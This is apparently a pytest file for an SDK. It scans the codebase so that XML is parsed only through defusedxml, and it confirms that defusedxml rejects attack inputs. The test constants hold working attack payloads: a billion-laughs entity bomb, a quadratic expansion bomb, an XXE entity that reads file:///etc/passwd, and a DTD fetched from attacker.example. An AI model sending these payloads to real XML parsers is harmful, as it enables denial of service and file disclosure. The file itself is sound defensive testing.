"""XML only through defusedxml (DESIGN §3): entity-expansion and external-entity attacks.

No first-party connector parses XML today (NetSuite, Kantata and Dataverse answer JSON), so
there is no XML helper in the core to test. What is tested instead:

* the guard that keeps it so: no module of the SDK, the connectors or the example plugin
  imports a stdlib or third-party XML parser directly (``xml.etree``, ``xml.dom``,
  ``xml.sax``, ``xml.parsers.expat``, ``lxml``); ``defusedxml`` is the only way in;
* that ``defusedxml`` refuses what the guard is for: the billion-laughs entity expansion, a
  quadratic blow-up, and external entities (XXE), through each of its parser front-ends.
"""

from __future__ import annotations

import ast
from pathlib import Path

import pytest

defusedxml = pytest.importorskip("defusedxml")
from defusedxml import DTDForbidden, EntitiesForbidden, ExternalReferenceForbidden  # noqa: E402
from defusedxml import ElementTree as SafeET  # noqa: E402
from defusedxml import minidom as safe_minidom  # noqa: E402
from defusedxml import pulldom as safe_pulldom  # noqa: E402

pytestmark = pytest.mark.reliability

ROOT = Path(__file__).resolve().parents[2]
CODE = [ROOT / "src", ROOT / "connectors", ROOT / "examples"]
UNSAFE = ("xml.etree", "xml.dom", "xml.sax", "xml.parsers", "lxml", "xmltodict")

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<invoice><memo>&lol9;</memo></invoice>"""

QUADRATIC = (
    b'<?xml version="1.0"?><!DOCTYPE q [<!ENTITY a "'
    + b"x" * 50_000
    + b'">]><q>'
    + b"&a;" * 5_000
    + b"</q>"
)

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<r>&x;</r>"""

XXE_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd">
<r/>"""


def _imports(path: Path) -> list[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    names: list[str] = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            names += [a.name for a in node.names]
        elif isinstance(node, ast.ImportFrom) and node.module and node.level == 0:
            names.append(node.module)
    return names


def test_no_module_imports_an_unsafe_xml_parser() -> None:
    files = [p for base in CODE for p in base.rglob("*.py")]
    assert len(files) > 50, "the scan must see the code base"
    offenders = [
        f"{p.relative_to(ROOT)}: {name}"
        for p in files
        for name in _imports(p)
        if name == "xml" or name.startswith(UNSAFE)
    ]
    assert offenders == []


@pytest.mark.parametrize("bomb", [BILLION_LAUGHS, QUADRATIC], ids=["billion-laughs", "quadratic"])
def test_entity_expansion_is_refused(bomb: bytes) -> None:
    with pytest.raises(EntitiesForbidden):
        SafeET.fromstring(bomb)
    with pytest.raises(EntitiesForbidden):
        safe_minidom.parseString(bomb)
    with pytest.raises(EntitiesForbidden):
        for _ in safe_pulldom.parseString(bomb.decode()):
            pass


def test_external_entities_and_dtds_are_refused() -> None:
    with pytest.raises((EntitiesForbidden, ExternalReferenceForbidden)):
        SafeET.fromstring(XXE)
    with pytest.raises(DTDForbidden):
        SafeET.fromstring(XXE_DTD, forbid_dtd=True)
    with pytest.raises((EntitiesForbidden, ExternalReferenceForbidden)):
        safe_minidom.parseString(XXE)
    with pytest.raises(DTDForbidden):
        safe_minidom.parseString(XXE_DTD, forbid_dtd=True)


def test_plain_documents_still_parse() -> None:
    root = SafeET.fromstring(b"<invoice><memo>ok</memo></invoice>")
    assert root.findtext("memo") == "ok"
